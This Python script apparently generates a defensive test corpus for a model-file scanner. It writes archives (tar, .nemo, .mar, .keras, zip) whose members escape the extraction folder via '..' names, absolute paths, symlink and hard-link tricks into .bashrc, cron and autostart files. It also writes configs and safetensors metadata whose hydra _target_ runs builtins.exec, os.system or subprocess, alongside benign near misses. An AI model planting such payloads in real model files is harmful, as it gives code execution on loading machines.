"""Model bundles for session 24: archives whose members escape the extraction folder (tar names, symbolic and hard
links, pax and GNU long-name records, zip names), configs inside model files that hydra.utils.instantiate turns into
calls (NeMo's model_config.yaml, safetensors metadata), and their benign twins. Written with tarfile and zipfile;
safetensors headers are written per the format's specification (8-byte length, JSON). Never load these files.
"""
import gzip
import io
import json
import struct
import tarfile
import zipfile

CMD = "touch /tmp/pathfinder-redteam"
STATE = b"\x80\x02}q\x00."  # pickle of {} (a tiny state dict)


def _info(name, size=0, kind=tarfile.REGTYPE, link=""):
    info = tarfile.TarInfo(name)
    info.size = size
    info.type = kind
    info.linkname = link
    info.mtime = 0
    info.mode = 0o644
    return info


def tar(entries, fmt=tarfile.GNU_FORMAT, compress=None):
    """entries: (name, bytes) for files, or (name, None, type, linkname) for links and directories."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for entry in entries:
            if len(entry) == 2:
                name, data = entry
                t.addfile(_info(name, len(data)), io.BytesIO(data))
            else:
                name, _, kind, link = entry
                t.addfile(_info(name, 0, kind, link))
    data = trim(buf.getvalue())
    return gzip.compress(data, mtime=0) if compress == "gz" else data


def trim(data):
    """tarfile pads an archive to 10 KiB; readers stop at the two zero blocks, so the rest is left off (small corpus)."""
    body = data.rstrip(b"\0")
    return body + b"\0" * (-len(body) % 512) + b"\0" * 1024


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.external_attr = 0o600 << 16
            z.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def safetensors(metadata):
    """A safetensors file with one 2x2 float32 tensor and the given string metadata."""
    header = {"__metadata__": metadata, "weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + bytes(16)


NEMO_CONFIG = """\
target: nemo.collections.asr.models.ctc_models.EncDecCTCModel
sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  features: 64
encoder:
  _target_: nemo.collections.asr.modules.ConvASREncoder
  feat_in: 64
  activation: relu
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 1024
  num_classes: 28
optim:
  name: novograd
  lr: 0.01
  sched:
    name: CosineAnnealing
"""


def nemo(config, compress=None, extra=()):
    """A .nemo file as NeMo's SaveRestoreConnector writes it: model_config.yaml and model_weights.ckpt in a tar."""
    return tar([("./model_config.yaml", config.encode()), ("./model_weights.ckpt", STATE), *extra], compress=compress)


def attacks():
    out = []

    def add(name, data, source):
        out.append((name, data, source))

    # ---- archive members that escape the extraction folder ----
    add("s24-tar-dotdot-member.tar", tar([("model/weights.ckpt", STATE), ("../../../home/user/.bashrc", CMD.encode() + b"\n")]),
        "s24: tar member named ../../../home/user/.bashrc (tarfile.extractall without a filter writes it outside the folder; CVE-2007-4559 class)")
    add("s24-tar-absolute-member.tar", tar([("model/weights.ckpt", STATE), ("/etc/cron.d/pathfinder", b"* * * * * root " + CMD.encode() + b"\n")]),
        "s24: tar member with an absolute name /etc/cron.d/pathfinder (tarfile joins it to the folder as given)")
    add("s24-tar-symlink-absolute.tar.gz", tar([("model/", None, tarfile.DIRTYPE, ""), ("model/cache", None, tarfile.SYMTYPE, "/etc"),
                                              ("model/cache/cron.d/pathfinder", b"* * * * * root " + CMD.encode() + b"\n")], compress="gz"),
        "s24: tar.gz checkpoint with a symbolic link model/cache -> /etc, then a member written through it (CVE-2025-12060 class: keras.utils.get_file extract)")
    add("s24-tar-symlink-dotdot.tar", tar([("model/up", None, tarfile.SYMTYPE, "../../.."), ("model/up/.profile", CMD.encode() + b"\n")]),
        "s24: tar symbolic link whose relative target climbs out with ../../.. from its own directory")
    add("s24-tar-hardlink-escape.tar", tar([("model/passwd", None, tarfile.LNKTYPE, "../../etc/passwd")]),
        "s24: tar hard link to ../../etc/passwd (hard link targets resolve from the archive root; extraction links the outside file in)")
    add("s24-tar-hardlink-name-escape.tar", tar([("model/config.yaml", b"a: 1\n"), ("../../../tmp/pathfinder-link", None, tarfile.LNKTYPE, "model/config.yaml")]),
        "s24: tar hard link whose own name climbs out (keras PR 22973: the link name, not only its target, must be checked)")
    add("s24-tar-pax-path-escape.tar", _pax_path_tar(),
        "s24: pax tar whose extended header path=../../.config/autostart/x.desktop replaces the ustar name model.ckpt (readers of the ustar name see a harmless member)")
    add("s24-tar-gnu-longlink-escape.tar", tar([("model/weights", None, tarfile.SYMTYPE, "../" * 40 + "etc/shadow")]),
        "s24: GNU tar symbolic link whose 123-byte target is carried in a K (long link name) record")
    add("s24-tar-symlink-then-dotdot.tar", tar([("model/", None, tarfile.DIRTYPE, ""), ("model/here", None, tarfile.SYMTYPE, "."),
                                               ("model/here/../../.bashrc", CMD.encode() + b"\n")]),
        "s24: symbolic link model/here -> . (inside), then a member model/here/../../.bashrc that stays inside as text and leaves through the link")
    add("s24-tar-symlink-chain.tar", tar([("d1", None, tarfile.SYMTYPE, "."), ("d1/d2", None, tarfile.SYMTYPE, ".."),
                                         ("d1/d2/etc/cron.d/pathfinder", b"* * * * * root " + CMD.encode() + b"\n")]),
        "s24: a chain of symbolic links each inside as text (d1 -> ., d1/d2 -> ..) that resolves outside (the 2025 tarfile filter bypass class, CVE-2025-4517)")
    add("s24-nemo-dotdot.nemo", nemo(NEMO_CONFIG, extra=[("../../../../home/user/.config/autostart/pathfinder.desktop", b"[Desktop Entry]\nExec=" + CMD.encode() + b"\n")]),
        "s24: a .nemo model (NeMo's tar: model_config.yaml, model_weights.ckpt) with a member escaping the restore folder (NeMo restore_from extracts the tar)")
    add("s24-mar-zip-slip.mar", zip_bytes([("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "m", "handler": "handler.py"}}'),
                                          ("handler.py", b"def handle(data, context):\n    return data\n"),
                                          ("../../../../home/model-server/.bashrc", CMD.encode() + b"\n")]),
        "s24: TorchServe .mar (a zip) with a member named ../../../../home/model-server/.bashrc (Zip Slip in extractors that keep .. names)")
    add("s24-keras-zip-absolute.keras", zip_bytes([("config.json", b'{"class_name": "Sequential", "config": {"name": "s", "layers": []}, "module": "keras"}'),
                                                  ("metadata.json", b'{"keras_version": "3.6.0"}'),
                                                  ("/tmp/pathfinder-redteam.weights.h5", b"\x89HDF\r\n\x1a\n")]),
        "s24: .keras zip with a member named by an absolute path")

    # ---- configs that instantiate (hydra.utils.instantiate of a .nemo model_config.yaml) ----
    exec_config = NEMO_CONFIG.replace("  activation: relu\n", "  activation: relu\n  init:\n    _target_: builtins.exec\n    _args_: [\"import os; os.system('" + CMD + "')\"]\n")
    add("s24-nemo-target-builtins-exec.nemo", nemo(exec_config),
        "s24: .nemo whose model_config.yaml has encoder.init._target_: builtins.exec with the code in _args_ (CVE-2025-23304: NeMo instantiated restored configs)")
    add("s24-nemo-target-os-system.nemo", nemo(NEMO_CONFIG.replace("ConvASRDecoder", "ConvASRDecoder\n  hook:\n    _target_: os.system\n    _args_: ['" + CMD + "']"), compress="gz"),
        "s24: gzip-compressed .nemo (older NeMo wrote tar.gz) whose decoder.hook._target_ is os.system")
    add("s24-nemo-target-get-method-partial.nemo", nemo(NEMO_CONFIG + "callback:\n  _target_: functools.partial\n  _args_:\n    - _target_: hydra.utils.get_method\n      path: subprocess.getoutput\n    - " + CMD + "\n"),
        "s24: .nemo config building functools.partial(hydra.utils.get_method('subprocess.getoutput'), cmd): the dangerous name is only a get_method path")
    add("s24-nemo-target-interpolated.nemo", nemo(NEMO_CONFIG + "defaults_impl: subprocess.Popen\nlauncher:\n  _target_: ${defaults_impl}\n  args: [sh, -c, '" + CMD + "']\n"),
        "s24: .nemo config whose _target_ is the OmegaConf interpolation ${defaults_impl}, resolved to subprocess.Popen at instantiate time")
    add("s24-nemo-target-yaml-anchor.nemo", nemo("runner_name: &runner runpy.run_path\n" + NEMO_CONFIG + "tokenizer:\n  _target_: *runner\n  path_name: /tmp/x.py\n"),
        "s24: .nemo config whose _target_ is a YAML alias of an anchor holding runpy.run_path")
    add("s24-ckpt-hparams-target.tar", tar([("checkpoint/hparams.yaml", b"model:\n  _target_: builtins.eval\n  _args_: ['__import__(\"os\").system(\"" + CMD.encode() + b"\")']\n"),
                                          ("checkpoint/weights.pt", STATE)]),
        "s24: a checkpoint tarball whose hparams.yaml (Lightning's hyper-parameters file, instantiated by Hydra-based loaders) targets builtins.eval")
    add("s24-zip-config-json-target.zip", zip_bytes([("model/config.json", json.dumps({"model": {"_target_": "posix.system", "_args_": [CMD]}}).encode()),
                                                    ("model/weights.bin", STATE)]),
        "s24: a model zip whose model/config.json holds _target_: posix.system")
    add("s24-safetensors-metadata-target.safetensors",
        safetensors({"format": "pt", "config": json.dumps({"encoder": {"_target_": "builtins.exec", "_args_": ["import os; os.system('" + CMD + "')"]}})}),
        "s24: safetensors file whose __metadata__ config (JSON) has _target_: builtins.exec (the 2025 Unit 42 finding: loaders passing metadata configs to hydra.utils.instantiate) (header written per the format's specification)")
    add("s24-safetensors-metadata-yaml-target.safetensors",
        safetensors({"format": "pt", "model_config": "decoder:\n  _target_: subprocess.run\n  args: [sh, -c, '" + CMD + "']\n"}),
        "s24: safetensors file whose __metadata__ carries a YAML config with _target_: subprocess.run (header written per the format's specification)")
    return out


def _pax_path_tar():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        info = _info("model.ckpt", len(STATE))
        info.pax_headers = {"path": "../../.config/autostart/x.desktop"}
        t.addfile(info, io.BytesIO(STATE))
    return trim(buf.getvalue())


def benign():
    """Near misses that must not be reported."""
    return [
        ("bundle-nemo-real-config.nemo", nemo(NEMO_CONFIG),
         "a .nemo model as NeMo writes it: model_config.yaml with nemo.collections targets, ./-prefixed member names"),
        ("bundle-nemo-torch-targets.nemo", nemo(NEMO_CONFIG + "optim_impl:\n  _target_: torch.optim.AdamW\n  lr: 0.001\nloss:\n  _target_: torch.nn.CTCLoss\n"
                                                "sched_fn:\n  _target_: functools.partial\n  _args_: [{_target_: hydra.utils.get_method, path: torch.optim.lr_scheduler.LambdaLR}]\n"
                                                "note: the word builtins.exec in a plain value is not a target\n"),
         "near miss: torch.optim/torch.nn targets, functools.partial of hydra.utils.get_method('torch.optim...'), a dangerous name only in a plain value"),
        ("bundle-tar-inside-links.tar", tar([("model/", None, tarfile.DIRTYPE, ""), ("model/v1/weights.ckpt", STATE),
                                             ("model/latest", None, tarfile.SYMTYPE, "v1"), ("model/v2/", None, tarfile.DIRTYPE, ""),
                                             ("model/v2/weights.ckpt", None, tarfile.SYMTYPE, "../v1/weights.ckpt"),
                                             ("model/copy.ckpt", None, tarfile.LNKTYPE, "model/v1/weights.ckpt"),
                                             ("./model/a/../notes.txt", b"fine\n")]),
         "near miss: symbolic links to siblings (v1, ../v1/weights.ckpt), a hard link inside the archive, a name with a/../ that stays inside"),
        ("bundle-safetensors-metadata.safetensors", safetensors({"format": "pt", "config": json.dumps({"_target_": "nemo.collections.llm.GPTModel", "hidden": 64})}),
         "safetensors with a config in __metadata__ targeting nemo.collections.llm.GPTModel (header written per the format's specification)"),
        ("bundle-zip-dotted-names.zip", zip_bytes([("model/..weights.bin", STATE), ("model/.hidden/config.yaml", b"_target_: torch.nn.Linear\nin_features: 2\n")]),
         "near miss: zip names with dots that are not .. segments (..weights.bin, .hidden/)"),
    ]
